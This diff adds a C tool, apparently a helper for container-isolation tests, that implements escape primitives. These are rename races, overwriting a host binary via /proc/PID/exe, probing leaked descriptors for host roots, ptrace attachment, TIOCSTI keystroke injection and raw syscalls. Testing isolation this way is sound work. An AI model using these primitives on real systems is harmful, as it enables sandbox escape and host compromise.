@@ -1,0 +1,212 @@
+/* SPDX-License-Identifier: Apache-2.0 */
+/* The attacker's hands, linked statically so that it runs in any image. agent WHAT ARGUMENTS... */
+#define _GNU_SOURCE
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <linux/fs.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/ioctl.h>
+#include <sys/prctl.h>
+#include <sys/ptrace.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <sys/wait.h>
+#include <time.h>
+#include <unistd.h>
+
+static double now(void)
+{
+    struct timespec t;
+
+    clock_gettime(CLOCK_MONOTONIC, &t);
+    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
+}
+
+/* exchange ONE OTHER: both names change places until killed. */
+static int exchange(char **argv)
+{
+    while (syscall(SYS_renameat2, AT_FDCWD, argv[0], AT_FDCWD, argv[1], RENAME_EXCHANGE) == 0 ||
+           errno == ENOENT || errno == EBUSY)
+        ;
+    return 1;
+}
+
+/* rotate NAME ONE OTHER: NAME is in turn ONE, nothing, OTHER, nothing, until killed. */
+static int rotate(char **argv)
+{
+    for (;;) {
+        rename(argv[1], argv[0]);
+        rename(argv[0], argv[1]);
+        rename(argv[2], argv[0]);
+        rename(argv[0], argv[2]);
+    }
+    return 1;
+}
+
+/* overwrite NAME SECONDS: whoever has a program of that path as executable, or mapped, is to have
+ * it written to as soon as it is not busy. Exits 0 if an open for writing succeeded. */
+static int try_write(const char *link, const char *name)
+{
+    char path[4096], self[64];
+    ssize_t n = readlink(link, path, sizeof path - 1);
+    int fd, out;
+    double end;
+
+    if (n < 0)
+        return 0;
+    path[n] = '\0';
+    if (!strstr(path, name))
+        return 0;
+    fd = open(link, O_PATH | O_CLOEXEC);
+    if (fd < 0)
+        return 0;
+    snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
+    for (end = now() + 2; now() < end;) {
+        out = open(self, O_WRONLY);
+        if (out >= 0 && write(out, "overwritten", 11) == 11) {
+            printf("wrote to %s by %s\n", path, link);
+            return 1;
+        }
+        if (out < 0 && errno != ETXTBSY)
+            break;
+    }
+    printf("seen %s by %s: %s\n", path, link, strerror(errno));
+    close(fd);
+    return 0;
+}
+
+static int overwrite(char **argv)
+{
+    double end = now() + atof(argv[1]);
+    char link[300];
+
+    while (now() < end) {
+        DIR *d = opendir("/proc");
+        struct dirent *e;
+        while (d && (e = readdir(d))) {
+            if (e->d_name[0] < '0' || e->d_name[0] > '9' || atoi(e->d_name) == getpid())
+                continue;
+            snprintf(link, sizeof link, "/proc/%.200s/exe", e->d_name);
+            if (try_write(link, argv[0]))
+                return 0;
+        }
+        if (d)
+            closedir(d);
+    }
+    return 1;
+}
+
+/* One directory of descriptors of somebody else's process. */
+static int reaches(int fds, const char *fd, const char *secret)
+{
+    /* A directory of the host's processes leads to their roots. */
+    static const char *const ways[] = {"", "/self/root", "/1/root"};
+    char path[4096];
+
+    for (size_t i = 0; i < sizeof ways / sizeof *ways; i++) {
+        snprintf(path, sizeof path, "%.255s%s%.2000s", fd, ways[i], secret);
+        if (faccessat(fds, path, F_OK, 0) == 0) {
+            printf("reached %s\n", path);
+            return 1;
+        }
+    }
+    return 0;
+}
+
+static int look_at_fds(const char *pid, const char *secret)
+{
+    char dir[300];
+    struct dirent *e;
+    DIR *d;
+    int hit = 0;
+
+    snprintf(dir, sizeof dir, "/proc/%.255s/fd", pid);
+    d = opendir(dir);
+    while (d && !hit && (e = readdir(d)))
+        hit = e->d_name[0] != '.' && reaches(dirfd(d), e->d_name, secret);
+    if (d)
+        closedir(d);
+    return hit;
+}
+
+/* join SECRET SECONDS: looks at every process that enters, by its descriptors and by ptrace. */
+static int join(char **argv)
+{
+    double end = now() + atof(argv[1]);
+    int seen = 0;
+
+    while (now() < end) {
+        DIR *d = opendir("/proc");
+        struct dirent *e;
+        while (d && (e = readdir(d))) {
+            int pid = atoi(e->d_name);
+            if (pid <= 1 || pid == getpid())
+                continue;
+            seen++;
+            if (look_at_fds(e->d_name, argv[0]))
+                return 0;
+            if (argv[2] && ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
+                char exe[64], path[4096];
+                ssize_t n;
+                snprintf(exe, sizeof exe, "/proc/%d/exe", pid);
+                n = readlink(exe, path, sizeof path - 1);
+                path[n < 0 ? 0 : n] = '\0';
+                if (strstr(path, argv[2])) {
+                    printf("attached to %s\n", path);
+                    return 0;
+                }
+                ptrace(PTRACE_DETACH, pid, 0, 0);
+            }
+        }
+        if (d)
+            closedir(d);
+    }
+    printf("saw %d processes\n", seen);
+    return 1;
+}
+
+/* inject TEXT: as if typed on the terminal that is fd 0. */
+static int inject(char **argv)
+{
+    for (const char *c = argv[0]; *c; c++)
+        if (ioctl(0, TIOCSTI, c) < 0) {
+            printf("TIOCSTI: %s\n", strerror(errno));
+            return 1;
+        }
+    return 0;
+}
+
+/* call NUMBER [A [B [C]]]: a system call; prints its errno, 0 when it succeeded. */
+static int call(char **argv)
+{
+    long a[3] = {0};
+
+    for (int i = 0; i < 3 && argv[1 + i]; i++)
+        a[i] = strtol(argv[1 + i], NULL, 0);
+    errno = 0;
+    syscall(strtol(argv[0], NULL, 0), a[0], a[1], a[2]);
+    printf("%d\n", errno);
+    return 0;
+}
+
+int main(int argc, char **argv)
+{
+    static const struct {
+        const char *name;
+        int least;
+        int (*run)(char **argv);
+    } table[] = {
+        {"exchange", 2, exchange}, {"rotate", 3, rotate}, {"overwrite", 2, overwrite},
+        {"join", 2, join},         {"inject", 1, inject}, {"call", 1, call},
+    };
+
+    setvbuf(stdout, NULL, _IOLBF, 0);
+    for (size_t i = 0; argc > 1 && i < sizeof table / sizeof *table; i++)
+        if (strcmp(argv[1], table[i].name) == 0 && argc - 2 >= table[i].least)
+            return table[i].run(argv + 2);
+    fprintf(stderr, "agent: no such thing\n");
+    return 2;
+}
